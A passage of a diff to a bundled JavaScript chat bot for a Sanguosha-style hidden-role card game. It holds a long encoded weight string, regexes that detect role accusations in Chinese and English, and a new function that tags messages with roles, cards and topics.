`RIA)jGE}6Pq>75sp2//OC`'980pPBP,[QujpqNs:gpg--I<SG/&r9kXM]m'bW.D2u<yIPt:;No^e7gM?p*6(uh4`;zMy+&l2U=W(P)SkrD[.>9A*VLiZFx],WysZ&YLGmdn%e,1}8trW*a(o$IA'S~=r13Dcl/>^=kLW7:>^}r:qgQaVfUwx$(qA12O@ubDT$ydQX|az_*mKGL53{R}[n+FY?f~S~0_[inM.[*kO8nq&Q`k96L4W%Gq[C^TBEkk5bDIZY/ZAv|$bo29)O+Cq)1H=%{PSzChT-)5qwr;Y@3k<USH7PNojB^ACM7MqlSK<W^'bDM@R@F6)`~D'U<ahYJ-rF@35Ajy'OU6'2+sL;aN.MZ~4&;KI_fSHwv$@rBq^j`|jqPe7`pH`C4tO+BlCJy^:eofoRA+,+xf^zVL-7<Qi6)1dj8uiE7>Bquy)o,A4hWb8mSTH)_:_3~`M-%IfPaE1j.XD&bFjEjm7_6Qg&r]P?QUmm3^NT0CVCAU6IOFXya#/T87Xv4Iy)cnG0SN/eV>8?Poir3*wN$_FJl$QfL]}'C|VuZ=5;8BSs1h3vgmhfT*$8U7>CPoL]4IJ=P%KWwgT@1+gvBMEgx)xhT,D$Y&Avm%{&ZKM,H_J+hyYVsdKN7Pd6'@a8m?QFKFN:Kv:oByCGeU:sgIzS#h^ooAA,_Q?]8q1K`|y2a9<jpG4gyl.&<3p2ntAZz#vs$2)QDL=XQE~+&*t^xhir8&CecnFve0zid85HTK%v^Xk{ci4%?~#?A6;L_3vbo4n4CwS6?eE~f^IaN0Lec$V.D0O^Dp&~ED5o^.$xvXZa5ia}rbCL6*Al=gYK6'dnpH8JJbHaxT31fkc)a~JdG]C:t46fKA*)E$PDe`-9<(qqTl]F$DI[rR.oi3yo[eVaf8Uo;jD9D)W;IpeA}N+iBqD0O88ABVzpB'>Z/4qW's:Yfvqd*'6:=RMwz&T^NUPVP(7^d9W&1XIc[m^4f5}v_IFZa-+}b'QPD32=2zN}P&oN$&_4zKBv`3DSPV_+L]V>0%H:H`UZOA9}E6|H]~Q.wkyT8B:jB'v{w|c2Y5F.~ICZJh_#=7,i[g-+4hgXw'=cIh87a',oIjy5<4xZpfs|Iz#I5i0k`ULO3%WlC{vffuJ4WehU~~2p/(*vcXI{<~??w3jXRsFIpWT6@4BPI2sKaXsZaHS=/5)vL0c(Jl):9YJJ^)^61]C-:;:&_TM2jw''Zn#Pn-[_%^,7iVeTewM>`<r1{H9={T*BoWCmRVm>K>*$uS`DKM$*}O*_jOikvUi~3.NWV^a|7$SX#yUyg872Y_?o7qgv=bdmyd#TC]6Bh|4TMJPw;|Tm4M?uUI;D3^+=_B`_%9c72RZ^;TyaF1w$tm8]s5R&`%2&b|)~0?A{'GqI(<TAVL{Z:4C+K0*Sm6DfKHmTOY@O)V}NL['/nH0?A9QMsYyu{Kd9)5NEbg_]D`^791U|[/[u|fa)TF(Mkr`M'cL%3e9qQuO^VN*UqbZoCEYxClz~h{EiRrFc_H;j68+R@*hC3bp4>%NW[|x<N-C?sU8v<A&}cpE-F]SzEYvyZv>ivqK@1N7C<$F#Uo394HPfk(B^9&Kn2R%G7VE$su*sYJ.KP0$x-YTuEN+PkdZthqXO<DnS&:F7jsP,/KPvfV(wiU5VH^3?j6GX&qRjlf1eACeW2k>cS+#7|x5U3ffA,jrM{A6>LP,xN1e49Qln+]^xn=9wL*3?NEJOH^7BgkAF56oLD@_dL#ag/SLVjkd$ly5A]_Oq.aYkmkI47j?8rdjlxOi;psy5?Xb(3y15MeXXPuenp[,gT~5mb;=t.kv.flQiTkW0t5hqrrJ}duEE]~eC<:R`j.HgPnA[1Fw$*H+IjRRf[XWs$|.N[&_GhdO:it=y&H@=S+dl2-+'Hm-<h9J&|E@1Ks,df0fi74Tc4Z(iAr,pv}vL3X`:^2@dY@-[8jSSu`~h0z@&mEc=c/{eHZ[<a$uxv8tC~I@/`kaMDA)^3up)8Fonk[l2a`9FmzGN$K7i4,)/-x's@jiHchNeYhY`=:`f$Z:wsO?k<.NwqRB?_Wl&54QCqaiCba&Q]Ix.`_b8W4D`q%nre#)SfL>%[W30(O,?&aL%4`OJTPZjnE@Ru2&tB->JIov_:hq=WY`Y|bjk.'&~pS?uB5|VFH]@k%gA*hyuD=KpYrajT*B//=<,|SLi%@1_j=qp;X9c3wMv/vXBmU|u*>[/PW1NZ=*z+1)@ZLwxGHd0$CN.h7K#dM#LdI^Ofb:%=jEPigkIDk4/LJ^P}[tiQ])FAsK])2yV1&3*z'}6'PR{NVkxAS)2f0EG-IgxKP-X[QZc?>T9x.x~YW:dZhub2lD$><lXI2?u%7e&C[=hOI+a>P`GD;cF3LHxe+=Z7`R=9Ou:O5g<]2a^@JsqwA;$XYA@>y6kgv{Fk]GL[Z+fGWa$Qj5OkQv2dQI'TcF1Icc{K_uzmm=WJyU;0ys}%4Zj-q6zyM'A:?c.}p9FdvZtIHBv&NSe#/<S|?|prnbHsitc/w5&H[|L[3xJlY,7Re&:]1t,K}8Jj4Y^a#:K(U~=_LyGz2m?HlX[yXCtXFOT#41i&7]rjBoVtjY]k4NM3>sr.+eU/3Cov1>8u,fz]I:^.*)XNmrPON_IfU%;aOMO9f0kgw.w'i?N(}OQDp5y:HDNScApo6s*z7y`:oL~s?v=Td9gKA6-^#('T#(5p66VsD]5sP-Rl,p;Y2hgA7z/foYr3:<S/pycvu06M'84920?aui6>RYOvGgMKI8bq1W%*g@1PbsH?u?hC;N1RtQ[rQ0z+{6I?@RKm-wvho&B3wmEUs`'T^cxT`=?^Y<25^|qL5tL[t>]]{DJi3Y2$^u%=_-h8Z3^jKsdHkn%9~ee$aHI;Hqd#k7=O#V?q@>d4z.c5.M+4n`<^-+]U/3yT=A*{^g/px9AwFGoP7KsX`u<}$b-{`R.%*{;H'?#>WX6TbW^`CAB`knQHL<=qJ&r~zS2E8U'';A~UpT9LXUOqKIN,ZqHt/-c`,ZFjc6PgFkes*XPCl2G_WRMrL[9'kIQV}f|v5YcM{8fhD=]?8TCJb=~s8O<zspwU>e8+$DTd$g$sU6wC);E/)n'Foir|_`)%'*.M;MHJLAxjeypcE]k+;2Iq*o)O@x7e:R[qcZXtu]>MYQY,$8i]$oX>j5mvHQ5?2JPyObb.HRPl~>`K{E6a=ntVAK9-OsBus?;SUx,*J_1k8{w.lJ+,Na5&dIf_~#@<yV:rIEqo6Shg7Sf1]|3j&A]ySCPqfb'Z$Dp*m|1lrO&iN&4)Q<W1jn8K2x+EY<-V#[;r[Rux3c_0jB0(naw`;kxK-QVMQ4KECTKi<_y@'<ZOTv^&So3]Z}DgClP+5T{hi6'Zw`&<{-@wJ-eY<dSeXLjZgw^{=?)xGd_&H6%}pG/08fkYNwLGQ;DrLHw{/2.t@MP%[Xq2*f?=$]UJ8zG>hI]>F>HwpI`{^TP@Uo|;&o%UG1*vD.XK(Z97XV<UfY74}sy4WOq/Q{)(.saw)mnvgd&3(5S3tFn<L$AdbF=b}D8.&)7pPXiabiB.ZW-w`n>SCKH^E7g2T{KE=3Ge',(k=G1L>ePn`SaX+0@yD/[Gub/Q0hcq^)r622?Oq(9O]]$BL$3r/utB~zk308_jQ<VATsG8D;[]tRO{%RQj/9fwWl(84X^{|[4&erV=PD(Kfk/FaE3Icu~Yr(IHLHooJt=q5A%.$oa6aH%DmO9d.O^hFD3'ck{`?>>F@TK1ZF-`t<D@xbP8'(by.dAn3NX}GvCq1crWjDs@8.Vl+Jz2:HRK*IGCTRKlVPk4YlizJCMtf$8o/#5Z/HUh}($)upDX/?$vKL%w<5rU29.'t=B*6KvciQz@mXkQm@jf#/h+>.).BwF<h.B8$ihP%.>gtUJum8>O'+Z3$jbb7O}1LoUJ_R/<M6R.KHi;wOXb}$DTrmC4d+W.)w$o)K*><-HzeA.GB#z?e|6+MBj5v>(b3O#<f1?Gel=v#z6FNQuRmlx$Ud5$Jh_G[2P%W(sZX8_>t)l#w#h3}N+CRX./8?[_~t>?7-2l6XVy6.61An3E2>{.GNx6N[N1L'H~Ke9PJ5}UP8;3:^{{r_*(RBLbHraWW%uGL9{Cau,B]i@sLF#/wvT]c*Cibfft1(Gt2nV7#B(=M>y0lS5ex]^zMN&?M,p#o2kl|~p2'_~rA)a04J'+BB@0p=DeV7tLpl<,)9UG:#]u/+tQemZ&nKAuhH:>U}K-ZFIHY7F[Pum*ARjIYvuyoeJeB*#5dI%M2?~/n<b7,SEL;_B7:fuVU6<@HSb1Pa-R`V9kN^OpC(y/JkBc/ZkMz1:5)dP:f;^oJra5^FN[*L3KO0O?wIGc[;bLprvi'yA]?qUq8+``Z>v*G_~.JbBQ,yE+9Uo&<0;RsZ6Xa{ym$1Ps`VR.3e^rLLwW^VrGZiG:KY^B)/)h1sio^~*L]c.g)]Jk?9P0|kC`&3Kgo.NeTIgv#r&AW-xyt%JUj75n]l?EiGM>gxg[+D.CMaw7HwwD#ef3,ZD9w^P}Uz6|~s59#gK2?2I[,LX3PDkhX$zeB`DP3mflq45M(qhv[@B:{{Ff3l.OiGTOt5hvXI7fVSKXUM?RFE5v1sFKOq^uG$w[[7h%i(V87U_J<P@HZRB&9Z~aKawyC*O8q_ud6mt6.aBh'Ui^Zs|.b.`[wAfHkghm2$y`w>Z[ZvU?%9}K3~)8~`}F.JNyz;C.p/?5Z7Bg]B_5z@;('xhMxaaFn=B#V_D`AnKtHK1n;RkwPgHxRO284vX?qQGvyU:QRqSilhD<<N1A`pMh?R5I`X/Hv>GY66;.I-nISJTwYz]r%2u^a_34'c[uw./8KW0zVXO)$Sbu,KLdW[eayf22ES*Eoh<%_,]522bAwop)33HJag>^5}jy'ZXu@vaCPOr+G7:>0qVOoCyP)b5PLQu&^ajWeML$bl$-uV&Th}5o|@=enngU((K>?YfRgw.~k3SdaAK[w3Mu;>mMJ2S.IlSr`Leu^(wLH#-wiZclX<a#$$LBx7Tt}5]SG^(682C[?_XG>cVmsmefXF.zQhw|Y`I*Z?yYUb4@DZaWN;S#G-:bWx@w'xz.obLnRGQ.].yYTfBW8KLXQjlQSdcwF`~`q?]IU_['gJd<f}k#:[~*6$zFiA6ID,dqKNN[7[0as~It?N%?'kjqcqob?mQ?YanNYpdaSyuLx6ur%*7V+w~eFa%i_`2pP^nAG3C:9&d#67Q2h```V_E~Gf7Jlo>tlq(}7wVpX20Or0|0Y]/`*7'I:pq0Czo1$`tTGpjHUJK?u$)rdOs[UcdFek)m&|5SPpK07HO*bf)w2'wBByR8a$Dtd$kuHuM)l(GP},F^(YjT}:Ecfm}Qyt3CBA}m*dFAR.+WxVSszr]6CYmC0JX0>>sE~t8chGN-eC11H~|&=9kfFb|'=%Gn(9s;P9inpvNAFk_S9X5+M2q%iWl(f/W+Vw4>e+XKhFan4Nr@s(5(Z.s`2S;,WU2nMF@L)th[y79tEy{n7Uz/%L|`]K,e%ccLul%/.6Y,J>tB<U[G0}7'Y=Z;pD5Imn[iH<V+5}qt6]d8<poWHDbFoDk|Tu;K|z-V/sUt^fI,sOa9M+8[P#j{|@w%$4^wC{rh+ip%(dJfh*=(rLt>(&ZFG-)e+}xul-Y#<E:BV6pnY;sa/Ma%)#(@*hK_I<}4)&_jog2>qOj`DbUU]pxq*QF*AI$I1%SMFJqVTH7e#pI[,h(L`hhOL<Nt*|.vJI@A;lrJF7}g-IfC#9/,Bj+)@7o(5vOp;s$OI@-X%Z`qUECr;eSl;<`l7s7-MuEu$eemu}~J'DKFHaEk}Y`m:/]JN2kOpU69>:N~aZtBAQ1jfOMG2k*VPPA.jl=|c@zUKbvJIae8;RD.bdP8}P;M/*,^_eX7=s>g~ih8&)Xcl9Sbj0~6LrY}8.XjI<OJw&.xK4dY*AIYW5?3YrKT'_f~R|*jsCmc=jz0;yG^=xFk^,#(=#GY3zkLN{Kl|;Z'NbHIL5e;`v`=H'Zcidvy<&[P,7xDGb@26A2?*;(;z,I|WPc'tWvsXX`TLd<nz}r_=4{`_^dJt`1H#fJg2g%;lEd_2~tQ@aU0HX|tkq:<Vs59;k^-*#kLAgOMpKKbqsj7ClfKm(HYY,Ok/oT;.26+[xC[P3q*-N0(Jpa0(*+_+Mu{j#9rH-/sRCeF](knZ(nkg~qwx1pg>lod:)=O#5Ay.y/2(ruL|9ZTLT7Q7t6z4?^JG`Q{=tby4uXE0U;U4RcSoxIu]Ug?ncedJ@,v:@U[/H|-}PYkdUKB78XfX^2.^mq'r}>.J?P:}U^m[A$AIWN5?]:HM<3-Adl@O*0+09{8maS0sB8iTkI9g~&W7D*3eY)#p6;2x:#+VzIF|+,xWqF^#IziZW>c2y+cq+u.'%xml+h_1-cUCLLPb:J~|5d+EP(Hm;B8(1dd@?o/),{N713$iNkf>iO5vYYH&k8UA0c@U=AxdcLlF[Nt-wQdyAE3d:K8:)6a&Xd}A(K=&0`3sOk0`KYmw$pv9k%0f6X~~-HrF[Ed+S3:Pl?^DD#3&-pWAgH4fir44v;bO}4/l=pO&SJhNy)ZWB'F'9l%]eMGUb0<+-l2yz=@xF?8M9J>2av{+^&~[;*eq:?-x)B}D'&selxkgg>ZvO;(w5Cn@*xX$c#b}}_EGGO&7LeFQLjB'qrL-Z|[|2U-FL*ypo[2tx~tdVU@(~&1l&lZY8D7JkYKa6TU7pn]jCzPK[f3_ReVx[T5qF~<-k?3l$;1adz4=*;5;{]irY}e?;hVXK=wCB|Dto<UqGLzj1iyR{qV$JY'mG04&AtTf%{X+B6IN*QeR2s^0HSYryyukE{tkpUpi&BBjBifX&Ibc#tCgs%7*sD7L$,%:yUG#G+uQ>2mOkQe{~,f]+DMevsd0q]-[%Jy%,S$A9w4Q%{58RUX,7.2^u@}%N<J)-8Ka%T?O^MF<ITxEf]V8fpz`>{M5%p%T<{9;j=S-&rSQ1$Db$F^hYNm:**IQi^x?.GO%-9#SHLEx}oT@99zgx@xT$F=6iJPePtvttky^V{U@T;orGrhbHKeZIHn)l=ARSC9v*m$RT?<pG*3q{%{rPF:G-O;]v9?.5E#H;g;[,)I[FE8jd<'fQ[2FaIh[(NTmQk73|&@L#S2dXKwOTEVeAA,nUt%R0utC-Tz;pos~zsy8O9_+U.{ue-o2/,ZPs8NN@bzZFjHR[{#@dG``4QderxBriEkPqPsGku#8@hU.pa+.6-1?yM;T,}]+CE&YC40),/Vr:;'Bkh7hni<OK0t#8N2cCP^|+,],5zpG]C{42j=fxk4{|Kq2MDTA|Y1noQ-Oe&|P]vi,Bb6N|jOrT5_h0t@qeofr;><{D^)O*AJAvIL<kl;W]__?11_M#Z'@g{YB`g;nSux?6,|X18m^Zmtw=C5YSz;^SXWaXiL63I*bZl<=9bC{QwP)A~#[S&'&X|[ZYg=p]iCHxjya)xqd)T3pF%5owXL@~}MJ_aN@*QLhzkf';={pG?q[^73Po8aM$U<?oyX)<8<}@r5)F#Xq8TS+O#pg-a.scWox%he-n5b67GJlDyY}'bETkV)/[l{y4ce8`;?vy|5i]kQUh)d%M9+H#S}5On3>Z[q):PoZs%YJK<W&~a/p<Ci:mU+CP0xXJ>g$oIChx;E65YS1P[2Aw[ktrwg7=<*=7]/'jiOzm.c%KjW~:AmBg[vYh_rTHx+P&jZOo.>A}i>DXhlYeP9-/FKvWE)&*ema_bTzf`Q?-Sna/n#6oQTiRL6y%3<,:'tZ?iH6TQnDNRLCA~p'?MxG4)&4~eqZ$11{;l>//s_uIv^iC|0@b6.HHx{+hLaRW624E[M?{T{)d]9;z]Rp~?JA6W;60){,NmzrX9Bo+'#d'asNdOd1o/yP*GJzQ~u?H3NYJi;qEL$]^$9Q{iZbJurC9?c5ulFb3,E;mOVINGKo=yoY,<NQ@Z-6'VTzbAYqfp<z/ir)O;>cg4LZ/AVD>UpSP@4e61I#B<UqW|IaTww21OX`w5.i0avl3MOc&F4>AT(zdLAnv8w>DW}8H@@#k1D&-9gLykFifz:?oB/#5rq')*MIfRJ:uQC41N&]Vt])6>4n##$Zr(WUD{By[d&ci^B9]&9Gge#{QMh$MWZA=|[=sYu6}jcP4z4HhjvZC%wAo}nt$&$$rKw(%Ng$-_Utaz-'EXuLs+N^:1Q<E#q*%(g1HI)9$NT_da?<KF;kVIOtAU/0f&WF@MHQaty)s,KP.z$X$Ud*CB?~Z0Hf#>wKe>quSxQ*Z|(SpbHi$p7JWn*p~cN5)yf(veDF6*/SCK+&b1*2*Hz;~,7oyMVhp:U?2wSbL`q>W=wa.OCa-'xz|~K[Bvc=9t^${Z-:GAR~2qoEz{-pW8Vi%(EoSZ&EL_mYh}*NF7Bb1vKY<:Twm66Wj,,rhzC[04'k_^k3/~HR_]CTpd?KhHe$~p6#lIoU9w{swRpu2N5Tln^IRc<dLOJxUtg]=aGCOs?}1doR0,:<]CxzW;({BuIi@]C%>R]qHI-xYZW[SLx3SHeUU36-xYL&k7975J3MMf$`0Gk]e2|Q%C/jL%>'_}3*]&?&_BDa#&xNU(N'Vg[ba4T=aj`_Wb2Ag4m6*,_qI}&{jq}2WIw>C4*=u1}8S`'HbLi8R{yF5:/>T1@HGj%hJDVJt-t)*th3}N)CqFB:ZNLM2-y/VPf8a~j[uv=1uqn}A|cPo2$9QpHb[Z:ErSfk[u}(Gx'C_V}<a&f$}B904oq_(XUTn#=z4|MpFfIT^%FA7IF-bsUqe$0N&9LYDRRtormGCqK/Y)}2f10x|)/~xx/<Kz%A>6|-C0oj+.8zp#%oJWm`(_VE4a^nCAM8P/(jTlv_>]tGTlG)%grI?]0W-;OV]0d*]vy+v?w}c[Oe%F?(]JOdsprfd&#Kt~kPmq2=Nm]ejF8Um>I8uW?pRC+$}y@;0MUSr:r'V-nmE%,ta~NN[eQ@eIx[8MD6.D_$Xo9N'Y7UDp<Pj=4jIlaT[VsqegoH/]~Z_>v~cHP~2&A4f?=+Z}Q9n%tv[6$Q{[op5N?Khv.&M@W%su@8OpR*^d8E4|Fy^UO)^).OLp+_<4?8~m)jA)eKOB[L.nh]_@EAY+;E}jXW34u4rvqA4f7hE&i{ME=B$:b$UfFT{Bp1ICo[`::M9/^t?c+gR`,Av=?p?;O?WW1g8-JsJg)4HWyVg8PvYQh{-n<6&.BjE2ABa`{zEpB>of.A8]4F;*}2n[He4#JNM]W^%l_FZW;@'.IrjI}u13IpW~6jjpM?KcFO^tK9jaF(X.*:p;%P'*}9lY}`JK9*k0_tr|&C^SHK/X0oHJ.(^U#.HdCZAi0Lk/}r27l4AXj8=[o?avIb*a(cOM)*{jPBHoj:/[`mt8hBU::Y6asFW8}0aoGiL@k]7`e?__6$Xg3QPUM?v6ystz[I(aR#U{^b]pZR{&yygd-;1d3svM.~jJQbO=gV89`m.%E[#[mP1W+Zc'c+?=q{yv3b%30t.*9*[pP*jW]NjNeVwtwt9Dk&(1PcX,^,nJGjOtP*No2gO|M}b)%G7jq0>eR3TTm#,;Ys`Lr;jl%A&p|5]*?_1gv)djqmwViY&p[Wa{EtC+H?).{wBwfZ~'xEAp|;[TF}{'%eNf)ob5g;3,gZwfqk,TW;=((27kZ87|B&ntarEm2>|$Tg6pxkY&?=SAVMXwsy3m#kPK?_M-.WPG]Yct7$gvAW_C9:Bc~`Ahy`7.{hW|djwpf>cpY3|?S)iopkBgR2jW^DD_SB3)xNek(54(b(z`^EqYZgzwrbZ(SpQmqy('b0?%AhFi^gV~RD3H.j3=)=okD|v1`KYPJr}FGP^]w`Sa,L?8{8;bMVAg'.kO$&If$?E[dD,|;=9UD#71;bWq7rb(wvqc1P)X=Ei(>re@>->(UOl_EW:eg&n-h?Dv*$qOrrmMZ0LqO.*l~zYmH2Q8mtq)/=TEh>UbO[vAO{cU<_@,O3vJ_NVjszI0Z&1tHA6KIm3evhp>y)_0_<7/|2>bIm<MNB]#Lssh`7NEp6F7@83J~'kF;94Im&S7}-$l:<vD@K$H7tOAY~~idZq#yC?q3cP31E/k'XcKA<a'n|/;tjlOi^$$/DygpaV4eXP#Q#k:.a[t3tuQQ<?+ypeg8qIkok+.awly10NGs'#X;5~.Gw{4rOlmI#UxdX4HUtrW/;3&5m|-k8@/[7,mnZ.Y2h?nvqIQ(3c<d|#0I4<<nu%8mP^'lXdvX}&EE=W$}|Ni*zXXe+]R-4+h[<TBFs3*j%uoC^a%:+'U*{v~Nqy7k6^vw'vSTZ95{Vz|>F(bKh;hIo)Jkjv6LhK}[LjnNGc0uMJdzdA9|Det#`~S[mO[&Zs`(q)Y=d#wY^@^fv(=Plli[EdWO3SuqK`0Z:*Yg_(_yt1>*UKN6:C'-(tPc^k8':yy)9jK*wF&{n=z>ZxjtqQiJ=<W84z(;2v?']5]3[p|y@<t@i]^d^TB)*WpBK#ha$T.;?lk|s2PP^B@M5,L'8mbHW)^ek1~Vrr*)o&xat<-yi1m[I]m_U$6_9lBBK(A-HxunJ.h`~xdoe$6?aAy=9}1i=_cMdD|%Zq]bWefi*DsRqC6Osg5l*^(=YzpgVn5=.~{st@Me1`JB@;)(4W2$3htTaHn'>;n~F6Cz9]e&YsMK:YPWcu=&?:Tep^2*Ad~V3=PkNd[|@R_&0^mbZ2b>@ripkES~q8)X1u'@Ji*v77,}x1Pux-m1T{E,E*X#>}Jpg-dyz'er3Gr}z/F}Wy#Ol<Fg3MGh.nC`eJV/Bbh_Mlltt01oWCg;]nkU]4u.-f<<2x@Fydw^DeC6BK3SmwN1k>UD)|Ei6L$(i^j'pSryXj2:pmik86d8_3-n$@|wD(UCYrD=I75s$5GS7p01>MH9kIUF.Lv#d.uOR%WD)x:&RG/R90LH&o`7pazg#>/:1J-8Vms3D&a:gzDr+|N@~A9[>jQ*?)RLtUcvLhK..XD;K&H9n3^YIcxm7PN*1n/j]}U~2zL+8Qwwpax0.ksSGuix9,g+3E7Lf'tL`n(nobk|hu|,8V-[5?QQ+)}^F.*UXGv'?GW9sBWE(g[lN'Ee2n9oC`C(<~:U]bV7morZneRZs5KScpT?'fWlN:^@~AXiHk$&7_zmdiYAkP1:B/CI=pAUWoBuyulF2OEK?kV?[(]#3CiRkm.He1Bho}@_L)1=cuIpF#L,29KBp9<n-8^bm}]Z|E11a4LxeJ[/Mlb].&z:mr2NtOz:}xbQ>*K/${$t+z1uu;W(/exF[Yj:7pGSK8X1OA0#i*v:.<9I,(%zap+UFs4D@Z}~?PY{r'C4&~@iMvp&mD}`&,u+^zf7sf//ks+9:AZvXa=w.TWDjE>8w`9.O}DO@p*:;GMLxJPyLWz*b?U(+,qp_3+yycj$uQl)C1vHBIn&&Rt~toOvPAl)y9QGf0hD)_rZG$nUy<bESBor2{a`*n(cN'odzp2`G(W1.ETs;lwPf#oaGPfD,1mz8a#o}Aowfy|9_[(g'c;~j#v3Jco3}%X4.u9^eZL*p9pDN:aer{DF+ck5wj-KJ3loCC[4KoBP*kr|Iurws*Y:tx+bb#3+f*O$)=zBdUse%hd8W0h1J)GtYU0sOZpxv,ij:>}Q71=U^B=UJ~>Vb'tx8]1ptY6[X21`aUz9uhta2QeAf=T;I~1vdv<a+%9^Z%>gE&%Z(g=Ug3Lm2q+Z]G][}^Q'%7%toc/;+MO~M}lU-V/T3o&><X}tQ)hDW`z]:z2n4OIA^>dI-xmGk_dWp'BAl:a+bxiPx16g'z39*+_-l]pHr^`ENoI@{OOX-Yr|hlwGnKn/{hzQX19*V>dAAghy$qnE/?2&9d~O6nDe_anw@4>Z22THl;VZ|NKpbI/YZi?R<sm/p~Nd`I=[?XsO[nAEQ-,5}fmL(XG+qQur+zHg{{tT&5W:ur$vQz/1WfZXIOA+;Pzm[czEWVZs-huY/m^>.-d,3?QF[Kiu4Bir+xO0..b7z(:oOBE_7:s+7<5#mM=V^)~~WQ-y{BDXf=1OqU7oZ'Cey%u1nBgmiaV(q)E:]xoGGJ2oWVh'P}PgAbYLvi^eALbnGhCKJtXv.+?CJe{R;|j+bz$YW@~>G{RR^ks*>N7kIzs8eh=0A_+E_srl0o}i#o1x7*gGm{,+a;Y'zi;4O%qayigdB5`qNG>z88mle4XiVaB3|}bhnme1SORs5qK/nfzXm<JuhK@HwxosWcsJ)SQ&41i%)fbVWkZy'^Z3CiLyk?e0Tk^)f>fI:(kK&a=ZC`]17qAm}?a'WI$;ms+zC6G1loK|^G3m?Wt{xMdy#8c?~`JDhGe.F,%5W5ut0_v?*6ra;,p|sXXifGJwQJl_-WRAhEtD*lR*@#GBh`j(X)fEb8U(uuJmJ<jtgj:[ia[J@VqQC-JbTg>J1>l`T_Uh*`wi}a#GsETd}<(~P2>knm|uva0B?,*;;ums-3'FWJ'vH~%MQRO)3&{7'@XL';fl=~KjQ|z/#hONh${v`^HVC9<k<<A=}Oo)d^Qn6HdjGFnn&e<4lD*L0}4f?]8L,:YTpG]2t~uAF-C9/x&KFg>|_=nEh]x.wvB<T,[TwepA-V4EBxgXmw0uI0.O8*8(W`'=XT}zId1:%0/D})^+Ix_?SwWz/'UxRk~vu;1&11?KJ8[>%>DV(=,2_XT(s=Efo8L5IjmT-.W_y;5Kc1>mPLPv0R~HnWdXl:-~/SVHBQ=Yko35H_bmQ[PG4|cDV2A>n:EY&5zC+[OIDmzq6~|YBmT)BviGQ<@0U8s=u=QMt&ERVs+`SL~~j>cE+B@;+&d%ZdT/0d]Al,'LqSp7wDrbKa|s;/sY5m?a>a2G@Z4*.^:=%@[oyc){680t#y<cC+,blnc|[##";
-
-// src/chatter/moves/likely.ts
-const SHARPNESS = 1.75;
-const chances = createSoftmax({ unit: UNIT3, bias: BIAS5, weights: WEIGHTS6 }, SHARPNESS);
-const actsUnpacking = chances.unpacking;
-function likelyActs(wording) {
-	const by = chances(wording);
-	return Object.fromEntries(ACTS.map((act, i) => [act, by[i] ?? 0]));
-}
-
-// src/chatter/moves/roles.ts
-const ROLE3 = `(?<role>(?:${ROLE_ZH2}))(?:(?<=[忠反内])${END_ZH}|(?<![忠反内]))`;
-var expressions;
-const build11 = () => [
-	new RegExp(`(?<who>(?:他|她|它)(?!们)|(?:这|那)(?:个?人|家伙|货|厮|小子))(?<between>${BETWEEN_ZH}{0,8})${ROLE3}`),
-	new RegExp(`(?<who>\\b(?:he|she|they|that guy|this guy))(?<between>${BETWEEN_EN})(?<role>${ROLE_EN2})\\b`),
-	new RegExp(
-		`^(?:我(?:觉得|看|猜|感觉|赌)|那|所以|所以说)?(?<who>)(?<between>(?:是不是|肯定|绝对|一定|必|铁|应该|多半|八成|大概|估计|可能|不|就|也|都|还|才)*(?:是|像|为)|(?:肯定|绝对|必|铁|妥妥|准|八成|多半))(?:个|一个)?${ROLE3}`
-	),
-	// "忠臣吧这是".
-	new RegExp(`^(?<who>)(?<between>)${ROLE3}(?:吧|啊|呀|呗)?,? ?(?:这|他|她)(?:就)?(?:是|不是)?(?:吧)?$`),
-	// "这不反贼谁反贼".
-	new RegExp(`(?<who>)(?<between>(?:这|他|她))不(?:是|就是)?${ROLE3}(?:还有|还能|,)?(?:谁|什么)`),
-	new RegExp(
-		`^(?:i (?:think|guess|bet|say) )?(?<who>)(?<between>(?:definitely|probably|clearly|surely|obviously|must be|not|is|maybe|looks like) ?(?:a |the |an )?)(?<role>${ROLE_EN2})$`
-	)
-];
-function roleSaid(text) {
-	expressions ??= build11();
-	for (const expression of expressions) {
-		const { who = "", between = "", role = "" } = expression.exec(text)?.groups ?? {};
-		const named = roleOfWord(role);
-		if (named === null || named === "zhu") continue;
-		return {
-			role: named,
-			denied: !/是不是/.test(between) && (DENIED_ZH.test(between) || DENIED_EN2.test(` ${between} `)),
-			who
-		};
-	}
-	return null;
-}
-
 // src/chatter/moves/life/heroes.ts
 const ROWS6 = [
 	["吕布", "奉先", "Lü Bu", "lu bu|lv bu"],
@@ -29006,6 +28936,39 @@ function topicOf(text) {
 }
 const isTrouble = (text) => matterIn(text)?.trouble === true;
 
+// src/chatter/moves/senses.ts
+const LISTS = Object.entries(words_exports).filter(
+	(entry) => entry[1] instanceof RegExp && !entry[1].global
+);
+const ROLES4 = [
+	["fan", /反(?!正|应|而|复|过来|映|手)|\brebels?\b/],
+	["zhong", /忠|\bloyal\w*\b/],
+	["nei", /内(?!容|心|部|卷)|\b(?:spy|spies|traitors?|renegade)\b/]
+];
+const KINDS6 = {
+	sha: "sha",
+	shan: "shan",
+	tao: "tao",
+	jiu: "jiu",
+	wuxie: "wuxie",
+	lebu: "delayed",
+	bingliang: "delayed",
+	shandian: "shandian",
+	nanman: "all",
+	wanjian: "all"
+};
+function sensesOf(text, mentions) {
+	const topic = topicOf(text);
+	return [
+		...LISTS.filter(([, list]) => list.test(text)).map(([name]) => `=${name}`),
+		...ROLES4.filter(([, list]) => list.test(text)).map(([name]) => `=${name}`),
+		...verbsIn(text).map(({ row }) => `=:${row.verb}`),
+		...cardsIn(text).map(({ card }) => `=card:${KINDS6[card] ?? (GEAR.has(card) ? "gear" : "trick")}`),
+		...topic === null ? [] : [`=topic:${topic}`],
+		`=${Math.min(3, mentions.filter(({ kind }) => kind === "seat").length)} seats`
+	];
+}
+
 // src/chatter/moves/lately.ts
 const LOW2 = 2;
 const EARLY = 2;
@@ -29072,86 +29035,53 @@ const levelIn = (row, place) => row.charCodeAt(place) - NOUGHT;
 
 // src/chatter/moves/lately-weights.ts
 const STEP2 = 0.1;
-const ALWAYS = "okugroptkopwkmeronrprrmosopnoovomqkkpnplolmlmiilormmklqhkmlnnsjjlmkmlj";
+const ALWAYS = "okugroptkopwkmfronrprsmosopnoovomqkkpnplolmlmiilnrmmklqikmlnnsjjlmkmlj";
 const LATELY2 = {
 	early: "omrnmnnommnnpmmolmmmplnlqnnmmnmonllnmnmlonmnmmnoornnnmtnmpmnnonnmmnmnn",
 	fell: "nnonmlnqponlnmmqosmmoommmppmpomlqnmnmnmnnnmmmlnmnmqnnnnnnnmmnnnmnnnmnn",
-	fell_lap: "omnlnkmroopqlmlpnnnnoploonpmnonnppolnnnpononllnmmkqlmomlnmmqmlmmnonlmm",
